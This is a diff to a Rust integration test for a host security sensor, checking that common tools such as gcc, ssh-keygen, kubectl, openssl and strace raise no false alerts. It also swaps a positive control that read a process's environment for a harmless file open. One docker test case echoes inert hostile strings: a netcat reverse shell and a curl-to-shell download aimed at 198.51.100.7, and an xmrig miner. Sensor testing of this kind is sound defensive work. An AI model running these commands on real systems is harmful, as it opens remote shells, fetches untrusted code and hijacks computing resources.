@@ -2,8 +2,10 @@
 //! run on this Debian host, for real, under the real sensor and the library, must not
 //! raise any of the library's alerts. Each tool runs only when installed here (what
 //! ran is printed, and enough must run for the test to mean something). A positive
-//! control, reading another process's environment (the shell's, by cat), must fire for the same harness, so
-//! the quiet result cannot come from a blind sensor.
+//! control must fire for the same harness, so the quiet result cannot come from a
+//! blind sensor: a harmless file open matched by the harness's own control rule
+//! (tests/data/control_rules.yaml), not an attack staged on the host, which a noise
+//! watcher running the shipped rules beside the test suite would rightly report.
 //!
 //! Needs root, the kernel and dockerd (the docker CLI case): skips with the reason
 //! elsewhere, fails in CI.
@@ -39,6 +41,18 @@ const TOOLS: &[(&str, &[&str], &str)] = &[
      "mkdir many && for i in $(seq 30); do seq 200 > many/f$i.txt; done; gzip -k many/*.txt; sed -i 's/1/one/' many/*.txt; tar czf many.tgz many; cp -r many many2"),
     ("logrotate with copytruncate", &["logrotate"],
      "echo line >> /var/log/rampart-host-tools-test.log && printf '%s\\n' '/var/log/rampart-host-tools-test.log {' '  copytruncate' '  rotate 1' '}' > lr.conf && logrotate -f -s lr.state lr.conf"),
+    ("make driving gcc (compiler, assembler, linker)", &["make", "gcc"],
+     "mkdir cbuild && printf '%s\\n' 'int main(void) { return 0; }' > cbuild/hello.c && printf 'hello: hello.c\\n\\tgcc -O2 -o hello hello.c\\n' > cbuild/Makefile && make -s -C cbuild && test -x cbuild/hello"),
+    ("ssh-keygen writing a key and the ssh client offering it", &["ssh-keygen", "ssh"],
+     "mkdir -m 700 sshdir && ssh-keygen -q -t ed25519 -N '' -f sshdir/id_ed25519 && ssh-keygen -y -f sshdir/id_ed25519 >/dev/null && ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i sshdir/id_ed25519 -p 1 nobody@127.0.0.1 true 2>/dev/null; true"),
+    ("kubectl without a cluster", &["kubectl"],
+     "kubectl version --client >/dev/null 2>&1; kubectl config view >/dev/null 2>&1; true"),
+    ("apt-get simulating an install", &["apt-get"],
+     "apt-get -s -q install --no-install-recommends hello >/dev/null 2>&1; true"),
+    ("openssl making and reading a key", &["openssl"],
+     "openssl genpkey -algorithm ed25519 -out key.pem 2>/dev/null && openssl pkey -in key.pem -pubout >/dev/null && openssl dgst -sha256 Cargo.toml >/dev/null"),
+    ("strace following a command", &["strace"],
+     "strace -f -o /dev/null true"),
     ("the docker CLI carrying a container's command", &["docker", "timeout"],
      "timeout 20 docker exec \"$C\" sh -c 'echo nc -e /bin/sh 198.51.100.7 4444; echo curl -s http://198.51.100.7/x.sh \\| sh; echo xmrig -o pool.example:3333' >/dev/null; docker ps >/dev/null"),
 ];
@@ -110,16 +124,19 @@ fn common_host_tools_raise_no_library_alert() {
     assert!(failed.is_empty(), "host tool scripts failed: {failed:?}");
     assert!(ran.len() >= 6, "only {} tool sets ran", ran.len());
 
-    // Positive control: the same harness sees a host process read another's environment.
+    // Positive control: the same harness sees a host process open a file.
     let control = "hosttoolctlq";
     assert!(run_on_host(
         control,
-        "cat /proc/$$/environ >/dev/null",
+        "echo control > rampart-host-control && cat rampart-host-control >/dev/null",
         scratch.path(),
         &container.name
     ));
     let deadline = Instant::now() + Duration::from_secs(20);
-    while d.our_host_matches_carrying(control).is_empty() {
+    while d
+        .host_matches_of_carrying("Test harness control file opened on the host", control)
+        .is_empty()
+    {
         assert!(
             Instant::now() < deadline,
             "the positive control did not fire: the sensor does not see host events"
